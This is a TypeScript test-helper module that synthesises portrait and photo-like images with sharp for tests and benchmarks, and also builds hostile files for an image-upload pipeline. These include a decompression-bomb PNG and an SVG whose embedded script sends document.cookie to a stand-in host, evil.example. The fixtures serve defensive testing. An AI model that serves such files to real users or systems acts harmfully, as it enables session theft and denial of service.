import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';

/**
 * Real image bytes for tests and benchmarks, made with sharp (never fixtures checked in), plus the
 * hostile files a profile photo URL might serve.
 */

export interface PortraitOptions {
  readonly width?: number;
  readonly height?: number;
  /** Background colour; the "face" is a bright disc drawn on it. */
  readonly background?: { r: number; g: number; b: number };
  /** Centre of the face as fractions of width and height (0.5, 0.5 is the middle). */
  readonly faceX?: number;
  readonly faceY?: number;
  /** Radius of the face as a fraction of the shorter side. */
  readonly faceRadius?: number;
  readonly format?: 'jpeg' | 'png' | 'webp' | 'gif' | 'avif';
  /** Keep an alpha channel with a transparent background (PNG/WEBP only). */
  readonly transparent?: boolean;
}

/** A "portrait": a flat background and one bright, detailed disc where a face would be. */
export async function makePortrait(options: PortraitOptions = {}): Promise<Uint8Array> {
  const width = options.width ?? 400;
  const height = options.height ?? 400;
  const bg = options.background ?? { r: 40, g: 60, b: 90 };
  const cx = Math.round((options.faceX ?? 0.5) * width);
  const cy = Math.round((options.faceY ?? 0.5) * height);
  const r = Math.round((options.faceRadius ?? 0.15) * Math.min(width, height));
  // Stripes inside the disc give the attention strategy edges and saturation to find.
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><pattern id="p" width="8" height="8" patternUnits="userSpaceOnUse">
      <rect width="8" height="8" fill="rgb(255,220,40)"/><rect width="4" height="8" fill="rgb(255,80,60)"/>
    </pattern></defs>
    <circle cx="${cx}" cy="${cy}" r="${r}" fill="url(#p)"/>
  </svg>`;
  const base = sharp({
    create: {
      width,
      height,
      channels: options.transparent ? 4 : 3,
      background: options.transparent ? { ...bg, alpha: 0 } : bg,
    },
  }).composite([{ input: Buffer.from(svg) }]);
  const format = options.format ?? 'jpeg';
  const out =
    format === 'jpeg'
      ? base.jpeg({ quality: 85 })
      : format === 'png'
        ? base.png()
        : format === 'webp'
          ? base.webp({ quality: 85 })
          : format === 'gif'
            ? base.gif()
            : base.avif({ quality: 50, effort: 0 });
  return new Uint8Array(await out.toBuffer());
}

/** A distinct photo per seed (different colours), so that each handle gets its own content hash. */
export async function makeDistinctPhoto(seed: string, size = 400): Promise<Uint8Array> {
  let h = 2166136261;
  for (const ch of seed) h = Math.imul(h ^ ch.codePointAt(0)!, 16777619) >>> 0;
  return makePortrait({
    width: size,
    height: size,
    background: { r: h & 0xff, g: (h >>> 8) & 0xff, b: (h >>> 16) & 0xff },
    faceX: 0.3 + ((h >>> 24) % 40) / 100,
    faceY: 0.4,
  });
}

/** A tiny, valid PNG whose header declares width × height pixels: a decompression bomb's signature. */
export function makePixelBombPng(width = 60_000, height = 60_000): Uint8Array {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(typed));
    return Buffer.concat([length, typed, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  // A few rows of zeros compress to almost nothing; a decoder asked for the whole image would expand it.
  const idat = deflateSync(Buffer.alloc(3 * width + 1));
  return new Uint8Array(
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', ihdr),
      chunk('IDAT', idat),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  );
}

export const SVG_WITH_SCRIPT = new TextEncoder().encode(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">' +
    '<script>fetch("https://evil.example/?c="+document.cookie)</script><circle cx="200" cy="200" r="100"/></svg>',
);

export const HTML_AS_IMAGE = new TextEncoder().encode(
  '<!doctype html><html><head><title>Not a photo</title></head><body>Sign in to see this photo</body></html>',
);

/**
 * A photo-like JPEG for benchmarks: a textured, tinted background (so encoders work as hard as on a
 * real photo, not on flat colour) and a skin-toned disc, distinct per seed. 800×800 is the size of
 * LinkedIn's og:image.
 */
export async function makePhotoLike(seed: string, size = 800): Promise<Uint8Array> {
  let h = 2166136261;
  for (const ch of seed) h = Math.imul(h ^ ch.codePointAt(0)!, 16777619) >>> 0;
  const tint = { r: h & 0xff, g: (h >>> 8) & 0xff, b: (h >>> 16) & 0xff };
  const r = Math.round(size * 0.19);
  const face = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}">` +
      `<circle cx="${Math.round(size * (0.38 + (h % 25) / 100))}" cy="${Math.round(size * 0.42)}" r="${r}" fill="rgb(230,180,150)"/></svg>`,
  );
  const texture = await sharp({
    create: {
      width: size,
      height: size,
      channels: 3,
      background: tint,
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .blur(2)
    .png()
    .toBuffer();
  const photo = await sharp(texture)
    .tint(tint)
    .composite([{ input: face }])
    .jpeg({ quality: 85 })
    .toBuffer();
  return new Uint8Array(photo);
}
